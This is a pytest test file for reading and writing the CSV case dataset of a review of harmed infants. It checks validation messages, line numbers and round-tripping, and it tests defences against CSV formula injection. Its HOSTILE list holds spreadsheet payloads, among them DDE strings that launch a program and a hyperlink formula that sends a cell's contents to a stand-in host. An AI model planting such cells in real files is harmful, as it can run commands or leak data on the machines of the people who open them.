"""Reading and writing the thematic review's case dataset: every bad row refused with its line and
a reason naming the column, the value and what is allowed; writing reads back the same."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path

import pytest

from seen.thematic.dataset import COLUMNS, CaseRow, RowProblem, read_cases, write_cases

FIXTURE = Path(__file__).parent / "fixtures" / "headline_cases.csv"
HEADER = ",".join(COLUMNS)
GOOD = {
    "case_id": "case 01",
    "area": "area 01",
    "outcome": "seriously_harmed",
    "injuries": "head_injury;fracture",
    "occasions": "repeated",
    "prognosis": "not_known",
    "male_relationship": "birth_father",
    "child_sex": "male",
    "child_ethnicity": "white british",
    "age_months": "3",
    "agency_involvement": "universal",
    "criminal_proceedings": "trial_ongoing",
    "both_parents_charged": "yes",
    "care_findings": "both_parents",
    "parent_features": "current_domestic_abuse;parental_mental_health",
}


def line(**changes: str) -> str:
    values = {**GOOD, **changes}
    return ",".join(values[column] for column in COLUMNS)


def problems_of(*lines: str) -> list[RowProblem]:
    _rows, problems = read_cases("\n".join([HEADER, *lines]) + "\n")
    return problems


def test_a_good_row_is_read_with_lists_as_tuples_and_age_as_a_number() -> None:
    rows, problems = read_cases(f"{HEADER}\n{line()}\n")
    assert problems == []
    assert rows == [
        CaseRow(
            case_id="case 01",
            area="area 01",
            outcome="seriously_harmed",
            injuries=("head_injury", "fracture"),
            occasions="repeated",
            prognosis="not_known",
            male_relationship="birth_father",
            child_sex="male",
            child_ethnicity="white british",
            age_months=3,
            agency_involvement="universal",
            criminal_proceedings="trial_ongoing",
            both_parents_charged="yes",
            care_findings="both_parents",
            parent_features=("current_domestic_abuse", "parental_mental_health"),
        )
    ]


def test_a_header_without_required_columns_is_one_problem_on_line_1_and_no_rows() -> None:
    text = "case_id,area,outcome\ncase 01,area 01,died\n"
    rows, problems = read_cases(text)
    assert rows == []
    assert len(problems) == 1
    assert problems[0].line == 1
    assert "missing the required columns injuries, occasions, prognosis" in problems[0].reason
    assert "parent_features" in problems[0].reason


def test_a_header_in_capitals_is_told_that_column_names_are_lower_case() -> None:
    rows, problems = read_cases(HEADER.replace("case_id", "Case_ID") + "\n" + line() + "\n")
    assert rows == []
    assert problems == [
        RowProblem(
            1, "the header is missing the required column case_id (column names are lower-case)"
        )
    ]


def test_an_empty_file_and_a_repeated_column_are_refused_on_line_1() -> None:
    empty = RowProblem(1, "the file is empty: the first line must be the header")
    assert read_cases("") == ([], [empty])
    _rows, problems = read_cases(HEADER + ",area\n")
    assert problems == [RowProblem(1, "the header names a column more than once: area")]


def test_a_file_that_is_not_utf8_is_one_problem_on_line_1() -> None:
    data = f"{HEADER}\n{line(area='área 01')}\n".encode("latin-1")
    rows, problems = read_cases(data)
    assert rows == []
    assert len(problems) == 1
    assert problems[0].line == 1
    assert problems[0].reason.startswith("the file is not UTF-8 text")


@pytest.mark.parametrize("as_bytes", [True, False])
def test_utf8_with_a_byte_order_mark_is_read(as_bytes: bool) -> None:
    text = "\ufeff" + f"{HEADER}\n{line(area='área 01')}\n"
    rows, problems = read_cases(text.encode("utf-8") if as_bytes else text)
    assert problems == []
    assert rows[0].case_id == "case 01"
    assert rows[0].area == "área 01"


@pytest.mark.parametrize(
    ("changes", "reason"),
    [
        ({"age_months": "14"}, 'age_months "14" is not a whole number from 0 to 11'),
        ({"age_months": "-1"}, 'age_months "-1" is not a whole number from 0 to 11'),
        ({"age_months": "3.5"}, 'age_months "3.5" is not a whole number from 0 to 11'),
        ({"age_months": ""}, 'age_months "" is not a whole number from 0 to 11'),
        ({"outcome": "injured"}, 'outcome "injured" is not one of died, seriously_harmed'),
        (
            {"child_sex": "unknown"},
            'child_sex "unknown" is not one of male, female',
        ),
        (
            {"agency_involvement": "cin"},
            'agency_involvement "cin" is not one of universal, early_help, child_in_need, '
            "child_protection",
        ),
        ({"both_parents_charged": "y"}, 'both_parents_charged "y" is not one of yes, no'),
        (
            {"care_findings": ""},
            "care_findings is blank: it must be one of father, both_parents, mother, none, "
            "not_known",
        ),
        (
            {"occasions": ""},
            "occasions is blank: it must be one of one_off, repeated, not_known",
        ),
        (
            {"child_sex": "Male"},
            'child_sex "Male" is not lower-case: values are written lower-case, here "male"',
        ),
        (
            {"child_ethnicity": "White British"},
            'child_ethnicity "White British" is not lower-case: values are written lower-case, '
            'here "white british"',
        ),
        ({"child_ethnicity": ""}, "child_ethnicity is blank: every case needs one"),
        ({"area": ""}, "area is blank: every case needs one"),
        (
            {"injuries": ""},
            "injuries is blank: at least one of head_injury, fracture, bruising, "
            "ruptured_frenulum, other is needed",
        ),
        (
            {"injuries": "head_injury;burn"},
            'injuries "head_injury;burn": "burn" is not one of head_injury, fracture, bruising, '
            "ruptured_frenulum, other",
        ),
        (
            {"injuries": "fracture;"},
            'injuries "fracture;" has an empty item: separate values with a single ";"',
        ),
        (
            {"parent_features": "care_leaver;care_leaver"},
            'parent_features "care_leaver;care_leaver" names care_leaver more than once',
        ),
        (
            {"prognosis": ""},
            "prognosis is blank: when outcome is seriously_harmed it must be one of "
            "likely_impairment, unlikely_impairment, not_known",
        ),
        (
            {"outcome": "died", "prognosis": "not_known"},
            'prognosis "not_known" must be blank when outcome is died',
        ),
        (
            {"prognosis": "likely"},
            'prognosis "likely" is not one of likely_impairment, unlikely_impairment, not_known',
        ),
    ],
)
def test_each_bad_value_is_refused_naming_column_value_and_what_is_allowed(
    changes: dict[str, str], reason: str
) -> None:
    assert problems_of(line(), line(case_id="case 02", **changes)) == [RowProblem(3, reason)]


def test_every_problem_of_a_row_is_reported_on_its_line() -> None:
    problems = problems_of(line(age_months="12", child_sex="x", injuries=""))
    assert [p.line for p in problems] == [2, 2, 2]
    assert {p.reason.split()[0] for p in problems} == {"age_months", "child_sex", "injuries"}


def test_a_repeated_case_id_is_refused_naming_the_line_that_has_it() -> None:
    problems = problems_of(line(), line(case_id="case 02"), line())
    assert problems == [RowProblem(4, 'case_id "case 01" is already used on line 2')]


def test_a_row_with_too_few_or_too_many_values_is_refused() -> None:
    assert problems_of(line() + ",extra") == [
        RowProblem(2, "the row has 16 values but the header has 15 columns")
    ]
    assert problems_of("case 01,area 01") == [
        RowProblem(2, "the row has 2 values but the header has 15 columns")
    ]


def test_line_numbers_are_physical_lines_across_blank_lines_and_quoted_newlines() -> None:
    multi_line_area = line(case_id="case 02", area='"area\n02"')
    bad = line(case_id="case 03", age_months="99")
    problems = problems_of(line(), "", multi_line_area, bad)
    # header 1, case 01 on 2, blank 3, case 02 on 4-5, case 03 on 6
    assert problems == [RowProblem(6, 'age_months "99" is not a whole number from 0 to 11')]


def test_a_died_case_has_a_blank_prognosis_and_parent_features_may_be_empty() -> None:
    rows, problems = read_cases(
        f"{HEADER}\n{line(outcome='died', prognosis='', parent_features='')}\n"
    )
    assert problems == []
    assert rows[0].prognosis == ""
    assert rows[0].parent_features == ()


def test_a_nul_character_refuses_its_row() -> None:
    assert problems_of(line(area="area\x0001")) == [RowProblem(2, "area holds a NUL character")]


def test_extra_columns_are_kept_and_written_back_after_the_required_ones() -> None:
    text = f"{HEADER},notes,source\n{line()},seen at panel,sc-7\n"
    rows, problems = read_cases(text)
    assert problems == []
    assert rows[0].extra == {"notes": "seen at panel", "source": "sc-7"}
    written = write_cases(rows)
    assert written.splitlines()[0] == HEADER + ",notes,source"
    assert read_cases(written) == (rows, [])


def test_the_fixture_round_trips_through_write_and_read() -> None:
    rows, problems = read_cases(FIXTURE.read_text(encoding="utf-8"))
    assert problems == []
    again, problems = read_cases(write_cases(rows))
    assert problems == []
    assert again == rows
    assert write_cases(again) == FIXTURE.read_text(encoding="utf-8")


def test_values_needing_quotes_round_trip() -> None:
    row = read_cases(f"{HEADER}\n{line()}\n")[0][0]
    awkward = replace(row, area='area "north", 01', child_ethnicity="white british;irish")
    assert read_cases(write_cases([awkward])) == ([awkward], [])


def test_as_csv_row_writes_lists_with_semicolons_and_the_age_as_text() -> None:
    row = read_cases(f"{HEADER}\n{line()}\n")[0][0]
    assert row.as_csv_row() == GOOD


# Cells a spreadsheet would run as a formula (CSV injection), lower-case as the dataset's values
# are: each leads with a character some spreadsheet starts a formula with, some after spaces.
HOSTILE = (
    "=cmd|' /c calc'!a0",
    '=hyperlink("http://example.invalid/?x="&a1,"open")',
    "+1+cmd|' /c calc'!a0",
    "-2+3",
    "@sum(1+1)*cmd|' /c calc'!a0",
    "  =1+1",
    "'=already marked",
)


def _formula_cells(text: str) -> list[str]:
    starts = ("=", "+", "-", "@", "\t", "\r")
    return [
        cell
        for row in csv.reader(io.StringIO(text, newline=""))
        for cell in row
        if cell.lstrip(" ").startswith(starts)
    ]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_hostile_cell_is_written_as_text_and_read_back_as_it_was(hostile: str) -> None:
    row = read_cases(f"{HEADER}\n{line()}\n")[0][0]
    planted = replace(
        row, case_id=hostile, area=hostile, child_ethnicity=hostile, extra={"notes": hostile}
    )
    written = write_cases([planted])
    assert _formula_cells(written) == []  # no cell, in any column, starts a formula
    assert read_cases(written) == ([planted], [])


def test_a_column_named_as_a_formula_is_written_as_text_and_read_back() -> None:
    row = read_cases(f"{HEADER}\n{line()}\n")[0][0]
    planted = replace(row, extra={"=cmd|' /c calc'!a0": "x"})
    written = write_cases([planted])
    assert _formula_cells(written) == []
    assert read_cases(written) == ([planted], [])
